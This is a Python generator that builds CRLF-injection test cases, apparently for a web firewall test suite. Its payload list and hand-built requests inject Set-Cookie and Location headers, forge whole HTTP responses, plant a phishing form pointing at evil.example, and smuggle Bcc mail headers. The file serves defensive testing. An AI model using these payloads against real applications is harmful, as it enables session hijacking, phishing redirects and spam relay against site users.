"""CRLF injection: ``attacks/1150-crlf.yaml``.

HTTP response splitting and header injection through values an application
copies into a response header (redirect targets, language and theme cookies,
download names), and mail-header injection through contact-form fields.
Line breaks arrive as the placement encodes them (``%0d%0a`` in a query,
``\\r\\n`` in JSON), encoded once more (double URL), as ``%u000d%u000a``, and
as the UTF-8 characters U+560A/U+560D that some servers truncate to LF/CR.
Headers cannot carry a raw line break, so header placements use the encoded
forms.
"""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

from attacks_xss import ftw_safe
from common import BROWSER_HEADERS, case, cases, request, write

FAMILY = "crlf"

PAYLOADS: list[str] = [
    "/home\r\nSet-Cookie: sessionid=attacker",
    "\r\nSet-Cookie: admin=true; Path=/",
    "en\r\nSet-Cookie: lang=x; Domain=.example.com",
    "/\r\nLocation: http://evil.example/",
    "\nLocation: //evil.example",
    ("x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
     "Content-Length: 25\r\n\r\n<b>injected</b>"),
    "\rRefresh: 0; url=http://evil.example/",
    "dark\r\nX-XSS-Protection: 0",
    "\r\nAccess-Control-Allow-Origin: https://evil.example",
    "\r\nAccess-Control-Allow-Credentials: true",
    "report.pdf\r\nTransfer-Encoding: chunked",
    "\r\nContent-Security-Policy: script-src *",
    "\r\n\r\nHTTP/1.1 302 Found\r\nLocation: http://evil.example/",
    "\r\n\tSet-Cookie: folded=1",
    "\n\nSet-Cookie:x=1",
    "\u560a\u560dSet-Cookie: crlf=injection",
    "\u560d\u560aLocation: http://evil.example/",
    "user@example.com\r\nBcc: victim@example.org",
    "user@example.com\nCc: a@example.org\nSubject: cheap pills",
    "Jane\r\nBcc: list@example.org",
    "Hello\r\nBcc: everyone@example.org\r\nContent-Type: text/html",
    "test\r\nX-Forwarded-Host: evil.example",
    "\r\nContent-Type: text/html\r\n\r\n<h1>Account locked</h1><form action=//evil.example>",
]

ROT = ["query", "form", "json", "cookie", "path", "multipart", "xml"]


def build() -> list[dict[str, Any]]:
    tests: list[dict[str, Any]] = []
    for i, p in enumerate(PAYLOADS):
        mail = "@" in p
        places = [["form", "json"][i % 2]] if mail else [ROT[i % 7]]
        tests += cases([p], family=FAMILY, placements=places)
        if not mail:
            enc = ["double-url", "unicode-u"][i % 2]
            where = ["query", "header", "path", "form"][i % 4]
            if where == "path" and enc == "unicode-u":
                where = "query"
            tests += cases([p], family=FAMILY, placements=[where], encodings=[enc])
        elif i % 2 == 0:
            tests += cases([p], family=FAMILY, placements=["multipart"])
    tests += hand_built()
    return tests


def hand_built() -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []

    def add(inp: dict[str, Any], desc: str, where: str, enc: str = "plain") -> None:
        out.append(case(inp, family=FAMILY, attack=True, desc=desc,
                        tags=[f"placement:{where}", f"encoding:{enc}"]))

    add(request("GET", "/redirect%0d%0aSet-Cookie:%20sessionid=attacker"),
        "CRLF and Set-Cookie in the path", "path")
    add(request("GET", "/login?next=%2Fhome%0D%0ALocation%3A%20https%3A%2F%2Fevil.example%2F"),
        "redirect parameter with a second Location", "query")
    add(request("GET", "/?lang=en%0d%0aSet-Cookie%3a%20admin%3d1"),
        "lowercase %0d%0a in ?lang=", "query")
    add(request("GET", "/?lang=en%E5%98%8A%E5%98%8DSet-Cookie:%20crlf=1"),
        "U+560A U+560D (truncated to LF CR) before Set-Cookie", "query", "utf8-crlf")
    add(request("GET", "/", {**BROWSER_HEADERS,
                             "X-Forwarded-For": "203.0.113.7%0d%0aSet-Cookie: admin=1"}),
        "encoded CRLF in X-Forwarded-For", "header", "url")
    add(request("GET", "/", {**BROWSER_HEADERS,
                             "X-Forwarded-Host": "shop.example.com%0d%0aLocation: //evil.example"}),
        "encoded CRLF in X-Forwarded-Host", "header", "url")
    add(request("GET", "/download", {**BROWSER_HEADERS,
                                     "Referer": "https://shop.example.com/%0d%0aContent-Length:0"}),
        "encoded CRLF in Referer", "header", "url")
    theme = quote("dark\r\nSet-Cookie: a=1")
    add(request("GET", "/account", {**BROWSER_HEADERS, "Cookie": f"session=abc; theme={theme}"}),
        "CRLF in a cookie value", "cookie")
    add(request("GET", "/search?%0d%0aSet-Cookie:%20x=1=1"),
        "CRLF in a query parameter name", "query-name")
    return out


def main() -> None:
    write("attacks/1150-crlf.yaml", 1150000, "CRLF and header injection", ftw_safe(build()))


if __name__ == "__main__":
    main()
